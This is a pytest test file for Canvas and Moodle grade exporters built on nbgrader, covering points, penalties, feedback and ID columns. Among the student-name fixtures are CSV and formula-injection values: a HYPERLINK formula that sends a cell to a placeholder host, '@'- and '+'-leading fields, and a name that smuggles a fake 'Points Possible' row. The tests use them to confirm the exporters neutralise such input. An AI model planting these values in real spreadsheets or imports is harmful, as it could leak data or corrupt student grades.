"""Grades for Canvas and Moodle: what their importers read, whatever students are called."""

import csv
import os
import shutil
import sys

import pytest
from conftest import run
from nbgrader.api import Gradebook
from traitlets.config import Config

from grading.bank import ROOT
from grading.export import CanvasExporter, MoodleExporter

COURSE = "convnets_from_scratch"
ONE, TWO = "1_step_by_step", "2_other"
FORMULA = '=HYPERLINK("http://example.org/?x="&A1,"my grade")'
NAMES = {
    "s1": ("Åsa", "Ōta"),
    "s2": ("Ada", "O'Neill, Jr."),
    "s3": (FORMULA, "@SUM(1)"),
    "s4": ("Eve\r\nPoints Possible,,,,,0", 'Qu"ote;'),
    "s5": (None, None),
    "s6": ("Not", "Submitted"),
    "s7": ("Taken in", "Not Graded"),
}


@pytest.fixture(scope="module")
def class_of_seven(tmp_path_factory):
    """A gradebook with two assignments; the second one is ungraded for all but s1."""
    path = tmp_path_factory.mktemp("gradebook") / "gradebook.db"
    with pytest.MonkeyPatch.context() as patch:
        # nbgrader calls alembic for a new gradebook, which stands beside the interpreter.
        patch.setenv("PATH", os.path.dirname(sys.executable), prepend=os.pathsep)
        with Gradebook(f"sqlite:///{path}", COURSE) as gradebook:
            fill(gradebook)
    return path


@pytest.fixture
def gradebook(class_of_seven, tmp_path):
    """A copy of it, to be changed."""
    shutil.copy(class_of_seven, tmp_path)
    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db", COURSE) as gradebook:
        yield gradebook


def fill(gradebook):
    """Assignments, students and what they got."""
    for assignment in (ONE, TWO):
        gradebook.add_assignment(assignment, course_id=COURSE)
        gradebook.add_notebook("nb", assignment)
        for name, most in (("test_f_shape", 4), ("test_f_value", 6)):
            gradebook.add_grade_cell(name, "nb", assignment, max_score=most, cell_type="code")
    for student, (first, last) in NAMES.items():
        about = {"first_name": first, "last_name": last, "email": f"{student}@example.org"}
        gradebook.add_student(student, **about)
    for student in ("s1", "s2", "s3", "s4", "s5"):
        grade(gradebook, ONE, student, 4, 6 if student == "s1" else 0.125)
    grade(gradebook, ONE, "s2", 4, 6, penalty=2.5)
    grade(gradebook, ONE, "s3", 4, 0, penalty=9)
    grade(gradebook, TWO, "s1", 4, 6)
    gradebook.add_submission(ONE, "s7")


def grade(gradebook, assignment, student, shape, value, penalty=None):
    """Points for both test cells of a submission."""
    submission = gradebook.update_or_create_submission(assignment, student)
    (notebook,) = submission.notebooks
    notebook.late_submission_penalty = penalty
    for entry in notebook.grades:
        entry.auto_score = shape if entry.name == "test_f_shape" else value
        entry.needs_manual_grade = False
    gradebook.db.commit()


def exported(exporter, gradebook, tmp_path, **settings):
    """Rows of the file that an exporter writes."""
    path = tmp_path / "out.csv"
    settings = {"to": str(path), **settings}
    exporter(config=Config({exporter.__name__: settings})).export(gradebook)
    return rows_of(path)


def rows_of(path):
    """Rows of a file as a spreadsheet or an importer reads them."""
    assert path.read_bytes().startswith(b"\xef\xbb\xbf"), "a spreadsheet would garble names"
    with open(path, encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert {len(row) for row in rows} == {len(rows[0])}
    return rows


def by_student(rows, column):
    """{id: row as a dictionary}, for the students' rows."""
    return {row[rows[0].index(column)]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}


def test_canvas_columns_and_points(gradebook, tmp_path):
    rows = exported(CanvasExporter, gradebook, tmp_path, columns={ONE: "Step by step (4711)"})
    head, possible, *students = rows
    assert head[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert head[5:] == ["Step by step (4711)", TWO]
    assert possible == ["    Points Possible", "", "", "", "", "10", "10"]
    points = {row[3]: row[5:] for row in students}
    assert points == {
        "s1": ["10", "10"],
        "s2": ["7.5", ""],  # 10 less 2.5 for lateness
        "s3": ["0", ""],  # never below 0
        "s4": ["4.12", ""],
        "s5": ["4.12", ""],
        "s6": ["", ""],  # nothing handed in: no grade
        "s7": ["", ""],  # handed in, but not graded: no grade, and not 0
    }
    names = {row[3]: row[0] for row in students}
    assert names["s1"] == "Ōta, Åsa" and names["s2"] == "O'Neill, Jr., Ada" and names["s5"] == "s5"


def test_canvas_takes_ids_from_the_column_that_is_set(gradebook, tmp_path):
    gradebook.update_or_create_student("s1", lms_user_id="90125")
    rows = exported(CanvasExporter, gradebook, tmp_path, student_column="SIS User ID", missing="EX")
    students = by_student(rows, "SIS User ID")
    assert students["s1"]["ID"] == "90125" and students["s1"]["SIS Login ID"] == ""
    assert students["s6"][ONE] == "EX"


def test_no_row_of_a_student_sets_the_points_of_an_assignment(gradebook, tmp_path):
    """Canvas takes any row whose first field holds these words for the row of maxima."""
    rows = exported(CanvasExporter, gradebook, tmp_path)
    assert [row[0] for row in rows if "Points Possible" in row[0]] == ["    Points Possible"]
    assert len(rows) == 2 + len(NAMES)
    # No field runs over several lines: Canvas guesses the separator from the first ones.
    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert len(text.splitlines()) == len(rows)


@pytest.mark.parametrize("exporter", [CanvasExporter, MoodleExporter])
def test_no_field_is_a_formula(gradebook, tmp_path, exporter):
    for number, start in enumerate(("+1", "-1", "@x", "\t=1", "\r=1", "＝1", " =1")):
        gradebook.add_student(f"f{number}", first_name="F", last_name=start)
    rows = exported(exporter, gradebook, tmp_path)
    harmless = ("-", "")  # no grade, in Moodle and in Canvas
    for row in rows:
        for field in row:
            assert field in harmless or field.lstrip()[0] not in "=+-@＝\t\r", field
    assert any(FORMULA in field for row in rows for field in row), "the name itself is lost"


def test_an_id_that_had_to_be_changed_is_said(gradebook, tmp_path, caplog):
    gradebook.add_student("=1+1", first_name="F", last_name="G")
    exporter = CanvasExporter(to=str(tmp_path / "out.csv"))
    with caplog.at_level("WARNING", exporter.log.name):
        exporter.log.propagate = True
        exporter.export(gradebook)
    assert "Enter this student's grade by hand" in caplog.text
    assert "'=1+1" in by_student(rows_of(tmp_path / "out.csv"), "SIS Login ID")


def test_moodle_columns_points_and_feedback(gradebook, tmp_path):
    rows = exported(MoodleExporter, gradebook, tmp_path, columns={ONE: "Step by step"})
    head = ["Username", "First name", "Last name", "Email address"]
    assert rows[0] == [*head, "Step by step", "Step by step (feedback)", TWO, f"{TWO} (feedback)"]
    students = by_student(rows, "Username")
    assert students["s1"]["Step by step"] == "10"
    assert students["s1"]["Step by step (feedback)"] == "All points."
    assert students["s2"]["Step by step"] == "7.5"
    assert students["s2"]["Step by step (feedback)"] == "Not all points: late: -2.5."
    assert students["s4"]["Step by step (feedback)"] == "Not all points: f_value 0.12 of 6."
    for student in ("s6", "s7"):
        assert students[student]["Step by step"] == "-"
        assert students[student]["Step by step (feedback)"] == ""
    assert students["s1"]["Email address"] == "s1@example.org"


def test_moodle_gets_no_column_of_addresses_with_gaps(gradebook, tmp_path):
    """Moodle would give the grade of a row without an address to the student before."""
    gradebook.update_or_create_student("s5", email=None)
    rows = exported(MoodleExporter, gradebook, tmp_path, student_column="ID number")
    assert rows[0][:4] == ["ID number", "First name", "Last name", ONE]
    assert all(row[0] for row in rows)


def test_students_and_assignments_can_be_chosen(gradebook, tmp_path):
    rows = exported(CanvasExporter, gradebook, tmp_path, assignment=[TWO], student=["s1", "s6"])
    assert sorted(row[3:] for row in rows[2:]) == [["s1", "", "10"], ["s6", "", ""]]
    with pytest.raises(SystemExit, match="knows no assignment 3_none"):
        exported(CanvasExporter, gradebook, tmp_path, assignment=["3_none"])
    with pytest.raises(SystemExit, match="knows no student s99"):
        exported(CanvasExporter, gradebook, tmp_path, student=["s99"])


def test_waiting_points_by_hand_are_said(gradebook, tmp_path, caplog):
    (notebook,) = gradebook.find_submission(ONE, "s1").notebooks
    notebook.grades[0].needs_manual_grade = True
    gradebook.db.commit()
    exporter = MoodleExporter(to=str(tmp_path / "out.csv"))
    with caplog.at_level("WARNING", exporter.log.name):
        exporter.log.propagate = True
        exporter.export(gradebook)
    assert f"{ONE}: 1 submissions wait for points by hand" in caplog.text


def test_from_nbgraders_own_command(gradebook, tmp_path):
    """As the README has it, with the settings of nbgrader_config.py."""
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    with open(tmp_path / "nbgrader_config.py", "a", encoding="utf-8") as config:
        config.write(f'\nc.CanvasExporter.columns = {{"{ONE}": "Step by step (4711)"}}\n')
    done = run(
        *("nbgrader", "export", "--exporter", "grading.export.CanvasExporter"),
        *("--to", "canvas.csv", "--assignment", f"['{ONE}']"),
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    rows = rows_of(tmp_path / "canvas.csv")
    assert rows[0][5:] == ["Step by step (4711)"]
    assert by_student(rows, "SIS Login ID")["s1"]["Step by step (4711)"] == "10"
    done = run("nbgrader", "export", "--exporter", "grading.export.MoodleExporter", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert by_student(rows_of(tmp_path / "moodle.csv"), "Username")["s2"][ONE] == "7.5"
